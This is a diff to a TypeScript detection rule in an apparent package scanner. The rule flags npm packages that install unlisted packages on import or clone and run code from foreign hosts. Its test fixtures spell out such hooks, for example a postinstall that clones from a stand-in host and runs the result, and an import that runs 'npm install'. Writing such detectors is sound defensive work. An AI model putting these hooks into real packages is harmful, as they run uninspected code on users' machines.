@@ -1,15 +1,20 @@
 import type { Action, Context, Fact, Inspection, Rule, Text } from '../lib/types.ts'
 import { oncePerLine } from './behaviour/once.ts'
 import { isStranger, placeInWords, placeOf } from './behaviour/place.ts'
-import { unasked } from './behaviour/written.ts'
+import { isProgram, unasked } from './behaviour/written.ts'
 import { findingAt, opening, quote, severityOf } from './finding.ts'
 import type { RuleFinding } from './finding.ts'
+import { scopeOf } from './names/name-index.ts'
 
 type Starts = Extract<Fact, { kind: 'starts' }>
 
 /** Package managers that are told to take a package from somewhere else than their registry. */
 const installers =
   /\b(?:npm|pnpm|yarn|bun)(?:\.cmd)?\s+(?:\S+\s+){0,3}?(?:install|i|add|exec|x|dlx)\s|\b(?:npx|bunx|pnpx)(?:\.cmd)?\s|\b(?:pip[0-9.]*|uv\s+pip|pipx)\s+(?:\S+\s+){0,3}?install\s|-m\s+pip\s+install\s|\bgem\s+install\s|\bcargo\s+install\s|\bgo\s+install\s/
+
+/** A package by its name, which a package manager fetches, or fetches and starts. */
+const byName =
+  /\b(?:npm|pnpm|bun)(?:\.cmd)?\s+(?:-\S+\s+)*(?:i|install|add|exec|dlx|x|pack)\s+(?:-\S+\s+(?:[/.~\u0001]\S*\s+)?)*["']?((?:@[\w.-]+\/)?[a-z][\w.-]*)(?:@[\w.^~>=*:@/-]+)?["']?(?=\s|$)|\byarn\s+(?:global\s+)?(?:add|dlx)\s+(?:-\S+\s+)*["']?((?:@[\w.-]+\/)?[a-z][\w.-]*)|\b(?:npx|bunx|pnpx)(?:\.cmd)?\s+(?:-y|--yes)\s+(?:-\S+\s+)*["']?((?:@[\w.-]+\/)?[a-z][\w.-]*)(?:@[\w.^~>=*-]+)?["']?(?=\s|$)/i
 
 /** What is fetched as a whole and then started from its folder. */
 const cloning = /\bgit\s+(?:-\S+\s+\S+\s+){0,3}clone\s|\bsvn\s+(?:co|checkout)\s|\bhg\s+clone\s/
@@ -27,8 +32,9 @@ export const foreignInstall: Rule = {
     severity: 'high',
     description:
       'While npm installs it or as soon as it is imported, the package tells a package manager to install something from ' +
-      'a host that is neither a registry nor its own, or clones a repository there and starts what lies in it. What comes ' +
-      'that way stands in no manifest and no lockfile, and nobody has inspected it.',
+      'a host that is neither a registry nor its own, or clones a repository there and starts what lies in it. As soon as ' +
+      'it is imported, also: it tells one to install a package by name that is neither its own nor a dependency. What ' +
+      'comes that way stands in no manifest and no lockfile, and nobody has inspected it.',
     references: ['nppacks (June to August 2026): tarballs of the author beside the registry'],
     blindSpots: ['Addresses that are computed.', 'Repositories on the large forges.'],
     examples: {
@@ -55,8 +61,24 @@ export const foreignInstall: Rule = {
               '{"name":"a","version":"1.0.0","scripts":{"postinstall":"git clone https://git.helper.invalid/x.git /tmp/x && node /tmp/x/run.js"}}',
           },
         },
+        {
+          title: 'an import adds a package to the project',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js': "require('child_process').exec('npm install --save helper-x', { cwd: process.cwd() })\n",
+          },
+        },
       ],
       passes: [
+        {
+          title: 'an import without its binary fetches it as an optional dependency would have been',
+          files: {
+            'package.json':
+              '{"name":"a","version":"1.0.0","main":"i.js","optionalDependencies":{"@a/wasm":"1.0.0"}}',
+            'i.js':
+              "try { require('@a/wasm') } catch { require('child_process').execSync('npm i @a/wasm@1.0.0', { cwd: require('os').tmpdir() }) }\n",
+          },
+        },
         {
           title: 'a command installs what its user names',
           files: {
@@ -96,9 +118,40 @@ function ofCommand(
   inspection: Inspection,
   context: Context,
 ): readonly RuleFinding[] {
+  const named = ofName(fact, command, inspection, context)
+  if (named !== undefined) return [named]
   const clones = cloning.test(command)
   if (clones ? !isFollowed(fact, starts) : !installers.test(command)) return []
   return report(fact, command, command.match(address) ?? [], clones, inspection, context)
+}
+
+/** Fetched by name from the registry: hooks of native packages do that for their own parts, imports of nobody. */
+function ofName(
+  fact: Starts,
+  command: Text,
+  inspection: Inspection,
+  context: Context,
+): RuleFinding | undefined {
+  if (fact.phase !== 'import' || isProgram(fact, inspection)) return undefined
+  const found = byName.exec(command)
+  const name = (found?.[1] ?? found?.[2] ?? found?.[3])?.replace(/@[^@/]*$/, '')
+  if (name === undefined || name === '' || belongsTo(name, inspection, context)) return undefined
+  const message =
+    `${opening(fact)} runs ${quote(command, 120)}, which brings ${quote(name)} past everything that was inspected. ` +
+    'Nobody asked for that, and it stands in no manifest. Do not install this unless you know what it needs that for.'
+  return findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })
+}
+
+/** Its own parts and what it depends on anyway. */
+function belongsTo(name: string, { manifest }: Inspection, context: Context): boolean {
+  const own = scopeOf(context.name)
+  return (
+    manifest.dependencies.some(dependency => dependency.name === name && dependency.type !== 'dev') ||
+    name.startsWith(own?.tail ?? context.name) ||
+    name.startsWith(`@${context.name}/`) ||
+    (own !== undefined && scopeOf(name)?.scope === own.scope) ||
+    context.name.startsWith(`${scopeOf(name)?.scope ?? '@'}-`)
+  )
 }
 
 function report(
